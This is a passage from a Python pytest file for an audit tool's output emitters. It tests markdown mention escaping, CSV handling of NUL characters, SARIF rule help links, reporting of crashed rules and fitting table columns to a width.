    first = render(emit, result)
    assert first and first == render(emit, shuffled(result))
    path = tmp_path / "out"
    with path.open("w", encoding="utf-8", newline="") as fh:  # a lone surrogate must not fail the write
        emit(result, fh)
    assert path.read_bytes().decode("utf-8") == first


@pytest.mark.parametrize("name", sorted(EMITTERS))
def test_empty_audit(name):
    out = render(EMITTERS[name], audit([], [], rules=[]))
    assert out == "" if name == "jsonl" else out.endswith("\n")
    if name in ("markdown", "github"):
        assert "0 initiatives from 0 sources" in out
    if name == "table":
        assert "0 records (0 initiatives, 0 active) from 0 sources" in out


def test_empty_audit_documents():
    doc = stdlib_json.loads(render(json.emit, audit([], [], rules=[])))
    assert doc["summary"] == {
        "initiatives": 0,
        "health": {"red": 0, "amber": 0, "green": 0},
        "findings": 0,
        "waived": 0,
        "by_rule": {},
    }
    log = sarif_log(audit([], [], rules=[]))
    check_sarif_structure(log)
    assert log["runs"][0]["results"] == [] and log["runs"][0]["tool"]["driver"]["rules"] == []


def test_markdown_neutralises_mentions_and_references() -> None:
    from trackerbridge.emitters.markdown import cell

    assert cell("ping @platform-team about #123") == "ping &#64;platform-team about &#35;123"


def test_csv_writes_a_nul_as_the_replacement_character_on_every_python() -> None:
    """Python 3.10's csv refuses a NUL ("need to escape"); 3.11+ writes it raw. Both now write U+FFFD."""
    result = audit([jira("OPS-1", "a\x00b")], [finding(OWNER, jira("OPS-1", "a\x00b"), "x\x00y")])
    rows = list(stdlib_csv.reader(io.StringIO(render(csv.emit, result))))
    assert rows[1][COLUMNS_INDEX["title"]] == "a\ufffdb" and rows[1][COLUMNS_INDEX["message"]] == "x\ufffdy"
    assert "\x00" not in render(csv.emit, result)


COLUMNS_INDEX = {name: n for n, name in enumerate(csv.COLUMNS)}


def test_sarif_points_each_documented_rule_at_its_page() -> None:
    from trackerbridge.rules.base import DOCS
    from trackerbridge.rules.registry import load_rules

    loaded = load_rules()
    i = jira("OPS-1", "t")
    documented = replace(OWNER, url="https://rules.example.com/TB101 owner")
    log = sarif_log(audit([i], [finding(loaded["TB105"], i, "late")], rules=[documented, loaded["TB105"]]))
    check_sarif_structure(log)
    by_id = {r["id"]: r for r in log["runs"][0]["tool"]["driver"]["rules"]}
    assert by_id["TB105"]["helpUri"] == f"{DOCS}#tb105-past-end-date"
    assert by_id["TB101"]["helpUri"] == "https://rules.example.com/TB101%20owner"  # a valid URI
    assert "helpUri" not in sarif.descriptor(OWNER)  # a rule without a page gets none rather than a guess


def test_sarif_describes_a_crashed_rule_finding_with_its_page() -> None:
    from trackerbridge.audit import assess
    from trackerbridge.health import HealthPolicy
    from trackerbridge.rules.base import Hit
    from trackerbridge.rules.engine import RuleSettings, Selection

    def boom(initiative: Initiative, ctx: object) -> list[Hit]:
        raise ZeroDivisionError("division by zero")

    fragile = Rule("TB901", "fragile-rule", Severity.WARNING, "s", "w", "y", "f", boom)
    i = jira("OPS-1", "t")
    result = assess(
        [i],
        {"TB901": fragile},
        RuleSettings(Selection(select=("TB901",))),
        HealthPolicy(),
        datetime(2026, 11, 25, tzinfo=timezone.utc),
    )
    log = sarif_log(result)
    check_sarif_structure(log)
    (res,) = log["runs"][0]["results"]
    assert res["ruleId"] == "TB000" and res["level"] == "error"
    assert res["message"]["text"] == "OPS-1 t: rule TB901 fragile-rule crashed: ZeroDivisionError: division by zero"
    crashed = next(r for r in log["runs"][0]["tool"]["driver"]["rules"] if r["id"] == "TB000")
    assert crashed["name"] == "RuleCrashed" and crashed["helpUri"].endswith("#tb000-rule-crashed")


def test_fit_narrows_pairs_together_and_never_widens_a_column() -> None:
    rows = [{"key": "DEL-7", "s_at": "2026-12-04 04:50", "t_at": "2026-12-04 04:51", "note": "n" * 60}]
    short = [{"s_at": "12-04 04:50", "t_at": "12-04 04:51"}]
    columns = ("key", "s_at", "t_at", "note")
    groups = {"s_at": "at", "t_at": "at"}
    steps = (("shrink", "key", 10), ("short", "at", 0), ("shrink", "note", 20), ("drop", "at", 0))
    assert table.fit(rows, columns, 200, steps, short=short, groups=groups) == (
        {"key": 5, "s_at": 16, "t_at": 16, "note": 60},
        set(),
    )
    widths, shortened = table.fit(rows, columns, 80, steps, short=short, groups=groups)
    assert widths["key"] == 5, "a shrink step never widens a column to its floor"
    assert shortened == {"s_at", "t_at"} and widths["s_at"] == widths["t_at"] == 11  # both sides alike
    assert sum(widths.values()) + table.GAP * (len(widths) - 1) <= 80
    widths, _ = table.fit(rows, columns, 40, steps, short=short, groups=groups)
    assert set(widths) == {"key", "note"} and widths["note"] == 20  # the pair went together
    rendered = table.grid(rows, columns, (widths, set()))
    assert rendered == "DEL-7  " + "n" * 19 + "…\n"
